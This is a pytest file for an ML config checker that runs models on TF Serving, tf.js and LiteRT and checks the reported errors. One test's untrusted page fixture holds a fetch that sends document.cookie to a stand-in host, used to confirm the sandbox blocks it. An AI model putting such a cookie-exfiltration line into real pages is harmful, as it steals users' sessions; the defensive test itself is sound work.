"""`pitfalls check-config` verified on the runtimes: the server's, the browser's and the interpreter's own words.

The serving container is the TF Serving-compatible stand-in built by the set-up (containers/tfserving-compat),
started with exactly the bundle's configuration (its files copied into the run's work directory, mounted
read-only); tf.js runs in headless Chromium; LiteRT in the LiteRT target's worker process.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from harness.configcheck import check_config
from harness.configcheck.examples import PLANTED_VERIFIED, copy_example, example
from harness.environments.engine import engine_unavailable_reason

pytestmark = pytest.mark.slow


@pytest.fixture
def engine() -> None:
    reason = engine_unavailable_reason()
    if reason:
        pytest.skip(f"needs a Docker engine: {reason}")


@pytest.fixture
def chromium() -> None:
    from harness.targets.tfjs.target import TfjsTarget

    reason = TfjsTarget.unavailable_reason()
    if reason:
        pytest.skip(reason)


def test_faulty_example_quotes_the_servers_start_failure(engine: None, tmp_path: Path) -> None:
    bundle = example("tfserving", "faulty")
    report = check_config([bundle], verify=True)
    assert report.bundles[0].verified == "yes"
    verified = [f for f in report.findings if f.verified == "runtime"]
    start = [f for f in verified if f.step == "tfserving/start-error"]
    assert len(start) == 1, [f.text for f in verified]
    assert start[0].text.startswith("Failed to start server. Error: FAILED_PRECONDITION: Request to assign label to "
                                    "version 1 of model classifier, which is not currently available for inference")
    assert start[0].scenario == "server/serving/serving-multiple-models-simultaneously"
    assert start[0].file == str(bundle / "start.sh") and start[0].line == 3
    assert "tensorflow/serving" not in start[0].source and "tfserving-compatible" in start[0].source
    # the static rule predicted it
    assert any(f.step == "tfserving/labels-at-startup" and f.verified == "static" for f in report.findings)
    # the run line's flags are passed as written: the server's flag parser leaves the spaced one over, says so
    # in its log and serves on without it (TF Serving's main.cc does not stop there)
    unknown = [f for f in verified if f.step == "tfserving/flag-without-equals"]
    assert [f.text for f in unknown] == ["unknown argument: --batching_parameters_file"]
    assert unknown[0].file == str(bundle / "start.sh") and unknown[0].line == 3
    assert {f.step for f in verified} == set(PLANTED_VERIFIED["tfserving"])


def test_a_version_that_does_not_load_is_reported_and_the_others_answer(engine: None, tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """The server retries the failed load (five times, a minute apart) before it opens its REST port: the grace
    the checker gives the other models after a failure cannot end that, so it is cut to 2 s here."""
    from harness.targets.tfserving import bundle as serving_bundle

    monkeypatch.setattr(serving_bundle, "RETRY_GRACE_S", 2.0)
    bundle = copy_example("tfserving", "fixed", tmp_path / "bundle")
    shutil.copytree(example("tfserving", "faulty") / "models" / "images", bundle / "models" / "images")
    config = bundle / "models.config"
    config.write_text(config.read_text().rstrip()[:-1] + '  config { name: "images" base_path: "/models/images" '
                      'model_platform: "tensorflow" }\n}\n')
    report = check_config([bundle], verify=True)
    loads = [f for f in report.findings if f.step == "tfserving/load-error" and f.severity == "blocker"]
    assert len(loads) == 1, [(f.step, f.file, f.text) for f in report.findings]
    assert "'images'" in loads[0].text and "does not appear to contain a SavedModel bundle" in loads[0].text
    assert loads[0].scenario == "server/general-questions/limitations-of-platforms-frameworks"
    assert loads[0].file == str(config) and loads[0].line is not None
    # the server retries the failed load before it opens its REST port: the classifier is said to be unchecked
    waiting = [f for f in report.findings if f.step == "tfserving/load-error" and f.severity == "info"]
    assert len(waiting) == 1 and "'classifier' was not checked" in waiting[0].text
    assert not [f for f in report.findings if f.step in ("tfserving/request-error", "tfserving/start-error")]


def test_a_signature_that_fails_on_the_request_built_from_its_metadata_is_quoted(engine: None, tmp_path: Path) -> None:
    """A model that loads but whose signature rejects zeros (an assertion in the graph): the request built from
    GET /metadata fails, and the server's error body is the finding."""
    import tensorflow as tf

    class Checked(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 8], tf.float32, name="x")])
        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            with tf.control_dependencies([tf.debugging.assert_positive(x, message="features must be positive")]):
                return {"y": tf.math.log(x)}

    bundle = copy_example("tfserving", "fixed", tmp_path / "bundle")
    for version in ("1", "2"):
        shutil.rmtree(bundle / "models" / "classifier" / version)
        checked = Checked()
        tf.saved_model.save(checked, str(bundle / "models" / "classifier" / version),
                            signatures={"serving_default": checked.serve})
    (bundle / "client.sh").unlink()
    report = check_config([bundle], verify=True)
    errors = [f for f in report.findings if f.step == "tfserving/request-error"]
    assert len(errors) == 1, [(f.step, f.text) for f in report.findings]
    assert errors[0].verified == "runtime" and "features must be positive" in errors[0].text
    assert errors[0].text.startswith("model 'classifier' signature 'serving_default': ")
    assert "POST :predict built from GET /metadata" in errors[0].source


def test_fixed_example_loads_and_every_signature_answers(engine: None, tmp_path: Path) -> None:
    bundle = example("tfserving", "fixed")
    report = check_config([bundle], verify=True)
    assert report.bundles[0].verified == "yes" and report.findings == []


def test_tfjs_faulty_example_quotes_the_browser_and_the_fixed_one_loads(chromium: None, tmp_path: Path) -> None:
    """Through the command line in its own process: Playwright's sync API allows one instance per thread, and
    this test process may hold one already (the tfjs target's tests).  On two of the checked backends (cpu and
    webgl, the browsers' default; PITFALLS_TFJS_BACKENDS): what is asserted is the same on each, and two keep
    the findings' merge across backends under test."""
    import json
    import os
    import subprocess
    import sys

    from harness.paths import REPO_ROOT

    backends = ["cpu", "webgl"]
    faulty, fixed = example("tfjs", "faulty"), example("tfjs", "fixed")
    proc = subprocess.run([sys.executable, "-m", "harness", "check-config", str(faulty), str(fixed), "--json", "-q"],
                          cwd=REPO_ROOT, capture_output=True, text=True, timeout=900,
                          env={**os.environ, "PYTHONPATH": str(REPO_ROOT), "PITFALLS_TFJS_BACKENDS": ",".join(backends)})
    assert proc.returncode == 1, proc.stderr[-2000:]
    report = json.loads(proc.stdout)
    assert [b["verified"] for b in report["bundles"]] == ["yes", "yes"]
    assert not [f for f in report["findings"] if f["file"].startswith(str(fixed))]
    verified = [f for f in report["findings"] if f["verified"] == "runtime"]
    assert {f["step"] for f in verified} == set(PLANTED_VERIFIED["tfjs"]), [(f["step"], f["text"]) for f in verified]
    # the backup model, loaded by the harness's page: the loader's text and the 404 of its missing shard
    backup = str(faulty / "backup" / "model.json")
    load = [f for f in verified if f["step"] == "tfjs/load-error"]
    assert load and all(f["file"] == backup for f in load)
    assert load[0]["text"].startswith("RangeError: byte length of Float32Array should be a multiple of 4")
    assert "the server responded with a status of 404 (Not Found)" in load[0]["text"]  # the console's line with it
    assert load[0]["scenario"] == "browser/model-loading/procedure" and "backend" in load[0]["source"]
    # the app's own page: its mistakes in the browser's words, each with the lesson that teaches it
    page = {f["text"].split("\n")[0]: f for f in verified if f["file"] == str(faulty / "index.html")}
    assert page["TypeError: backup.predict is not a function"]["scenario"] == "browser/model-loading/asynchronous-loading"
    assert page["console.error: Not allowed to load local resource: file:///home/me/app/model/model.json"]["scenario"] \
        == "browser/model-loading/loading-from-local-storage"
    improper = next(f for t, f in page.items() if t.startswith("Uncaught (in promise) Error: layer: Improper config format"))
    assert improper["scenario"] == "browser/model-loading/selection-usage-of-apis"
    assert any(t == "GET /backup/group1-shard1of1.bin: HTTP 404" for t in page)
    # the planted leak: the page predicts without disposing its input and its scores
    leaks = [f for f in page.values() if f["step"] == "tfjs/tensor-leak"]
    assert leaks and all(f["severity"] == "warning" for f in leaks)
    assert any("cpu, webgl backends" in f["source"] for f in load), [f["source"] for f in load]
    faulty_runs = report["bundles"][0]["runs"]
    assert [r["backend"] for r in faulty_runs] == backends
    for run in faulty_runs:
        counts = run["num_tensors"]
        assert len(counts) >= 3 and all(b - a == 2 for a, b in zip(counts, counts[1:])), run
        assert run["first_predict_s"] is not None and run["page_load_s"] is not None and run["blocked"] == []
        assert re.fullmatch(r"\d+ predictions seen", run["predictions_waited"]), run  # 3 or more: not cut short
    for run in report["bundles"][1]["runs"]:  # the fixed page disposes: the count stays
        assert len(set(run["num_tensors"])) == 1 and len(run["num_tensors"]) >= 3, run
        assert run["asked"] == ["cpu"] and "_FusedMatMul" in run["kernels"]


def test_android_faulty_assets_quote_the_interpreter_and_the_fixed_one_runs(tmp_path: Path) -> None:
    faulty, fixed = example("android", "faulty"), example("android", "fixed")
    report = check_config([faulty, fixed], verify=True)
    assert [b.verified for b in report.bundles] == ["yes", "yes"]
    verified = {f.file.rsplit("/", 1)[-1]: f for f in report.findings if f.verified == "runtime"}
    assert set(verified) == {"model.tflite", "legacy.tflite"}
    assert verified["model.tflite"].text.startswith("Didn't find op for builtin opcode 'FULLY_CONNECTED' version '99'")
    assert verified["model.tflite"].scenario == "mobile/dl-integration-into-projects/avoiding-version-incompatibility"
    assert verified["legacy.tflite"].text == "The model is not a valid Flatbuffer buffer"
    assert verified["legacy.tflite"].scenario == "mobile/dl-integration-into-projects/importing-loading-models"
    assert not [f for f in report.findings if f.file.startswith(str(fixed))]


EINSUM_PAGE = """<!DOCTYPE html>
<html><head><script src="https://cdn.jsdelivr.net/npm/@tensorflow/tfjs@4.22.0/dist/tf.min.js"></script></head>
<body><script src="app.js"></script></body></html>
"""
EINSUM_APP = """(async () => {
  await tf.setBackend('cpu');
  fetch('https://example.com/collect?cookie=' + encodeURIComponent(document.cookie)).catch(() => {});
  fetch('http://127.0.0.1:9/').catch(() => {});
  const model = await tf.loadGraphModel('model/model.json');
  for (let run = 0; run < 3; run++) {
    const y = tf.tidy(() => model.predict(tf.zeros([2, 8])));
    await y.data();
    y.dispose();
  }
})();
"""


def test_attack_an_apps_page_reaches_no_other_origin_and_a_kernel_a_backend_lacks_is_named(chromium: None,
                                                                                            tmp_path: Path) -> None:
    """The app's page is untrusted code: its requests to another host (or another loopback port) are refused
    and listed.  Its model runs tf.einsum, whose kernel (Einsum) the wasm backend does not register: the
    finding names the kernel and the backend, from tf.getKernelsForBackend in the page."""
    import json
    import os
    import subprocess
    import sys

    import tensorflow as tf

    from harness.artifacts import ArtifactCache
    from harness.paths import REPO_ROOT, model_cache_root
    from harness.targets.tfjs.convert import GRAPH_ARGS, run_converter

    class Dot(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 8], tf.float32, name="x")])
        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            return {"y": tf.einsum("bi,bi->b", x, x)}

    dot = Dot()
    tf.saved_model.save(dot, str(tmp_path / "saved"), signatures={"serving_default": dot.serve})
    converted = run_converter(ArtifactCache(model_cache_root()), list(GRAPH_ARGS), tmp_path / "saved")
    app = tmp_path / "app"
    shutil.copytree(converted, app / "model")
    (app / "index.html").write_text(EINSUM_PAGE)
    (app / "app.js").write_text(EINSUM_APP)
    proc = subprocess.run([sys.executable, "-m", "harness", "check-config", str(app), "--json", "-q"],
                          cwd=REPO_ROOT, capture_output=True, text=True, timeout=900,
                          env={**os.environ, "PYTHONPATH": str(REPO_ROOT), "PITFALLS_TFJS_BACKENDS": "cpu,wasm"})
    assert proc.returncode == 1, proc.stderr[-2000:]
    report = json.loads(proc.stdout)
    runs = report["bundles"][0]["runs"]
    assert [r["backend"] for r in runs] == ["cpu", "wasm"]
    for run in runs:
        assert sorted(run["blocked"]) == ["http://127.0.0.1:9/", "https://example.com/collect?cookie="], run
    kernel = [f for f in report["findings"] if f["step"] == "tfjs/kernel-missing"]
    assert len(kernel) == 1 and "Einsum" in kernel[0]["text"] and "wasm backend" in kernel[0]["text"], kernel
    assert kernel[0]["verified"] == "runtime" and kernel[0]["file"] == str(app / "index.html")
    # the engine's own text, from the harness's predict on wasm and from the app's page on wasm
    assert any(f["step"] == "tfjs/predict-error" and "Kernel 'Einsum' not registered for backend 'wasm'" in f["text"]
               and "wasm backend" in f["source"] for f in report["findings"])
    assert any(f["step"] == "tfjs/page-error" and "Kernel 'Einsum' not registered for backend 'wasm'" in f["text"]
               for f in report["findings"])
